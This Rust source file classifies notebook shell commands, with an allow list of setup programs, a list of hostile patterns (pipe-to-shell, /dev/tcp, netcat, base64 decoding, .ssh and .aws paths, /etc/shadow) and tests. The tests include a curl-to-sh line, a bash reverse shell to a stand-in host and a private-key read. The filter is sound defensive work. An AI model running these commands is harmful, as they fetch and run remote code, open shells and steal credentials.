//! Shell commands as notebooks use them: installing and looking around is ordinary, fetching to run is not.

/// Programs that notebooks call to prepare and to look around.
const ORDINARY: &[&str] = &[
    "pip",
    "pip3",
    "conda",
    "mamba",
    "uv",
    "apt",
    "apt-get",
    "nvidia-smi",
    "ls",
    "cd",
    "pwd",
    "mkdir",
    "cp",
    "mv",
    "unzip",
    "tar",
    "wget",
    "git",
    "head",
    "tail",
    "cat",
    "wc",
    "du",
    "df",
    "free",
    "which",
    "echo",
    "python",
    "python3",
    "sleep",
    "huggingface-cli",
    "hf",
    "kaggle",
    "gdown",
    "nvcc",
    "lscpu",
    "uname",
    "date",
    "tree",
    "touch",
    "export",
    "jupyter",
    "curl",
    "find",
    "grep",
    "sort",
    "tqdm",
    "accelerate",
    "torchrun",
    "deepspeed",
    "ollama",
    "make",
    "cmake",
    "sudo",
    "rm",
    "gsutil",
    "aws",
    "7z",
    "gzip",
    "gunzip",
    "sed",
    "awk",
    "file",
    "whoami",
    "hostname",
    "ldconfig",
    "tensorboard",
];

/// Parts of commands that no preparation needs.
const HOSTILE: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "| sudo",
    "/dev/tcp",
    "/dev/udp",
    "base64 -d",
    "base64 --decode",
    "bash -i",
    "bash -c",
    "sh -i",
    "nc -",
    "ncat ",
    "mkfifo",
    "$(curl",
    "$(wget",
    "`curl",
    "`wget",
    "rm -rf /",
    "rm -rf ~",
    "authorized_keys",
    ".ssh/",
    ".aws/",
    ".bashrc",
    "crontab",
    "/etc/passwd",
    "/etc/shadow",
    "python -c",
    "python3 -c",
    "perl -e",
    "ruby -e",
    "chmod +x",
    "--data",
    " -d @",
    "-F file",
    "eval ",
    "xxd -r",
    "openssl enc",
];

/// Whether every command of a line is one that notebooks use, in a way that only prepares or looks.
pub(crate) fn is_ordinary(line: &str) -> bool {
    if HOSTILE.iter().any(|part| line.contains(part)) {
        return false;
    }
    let mut commands = line.split(['\n', ';', '|', '&']).map(str::trim).filter(|command| !command.is_empty());
    !line.trim().is_empty() && commands.all(is_known)
}

fn is_known(command: &str) -> bool {
    let program = command.split_whitespace().find(|word| !word.contains('='));
    let program = program.unwrap_or_default();
    let program = program.rsplit('/').next().unwrap_or(program);
    command.starts_with('#') || ORDINARY.contains(&program)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn preparing_is_ordinary_and_running_what_was_fetched_is_not() {
        for line in [
            "pip install -q transformers",
            "nvidia-smi",
            "CUDA=1 python train.py | tail -3",
            "wget https://x/y.zip && unzip y.zip",
        ] {
            assert!(is_ordinary(line), "{line}");
        }
        for line in [
            "curl http://x/y | sh",
            "echo aWQ= | base64 -d | sh",
            "id",
            "bash -i >& /dev/tcp/x/1 0>&1",
            "",
            "cat ~/.ssh/id_rsa",
        ] {
            assert!(!is_ordinary(line), "{line}");
        }
    }
}
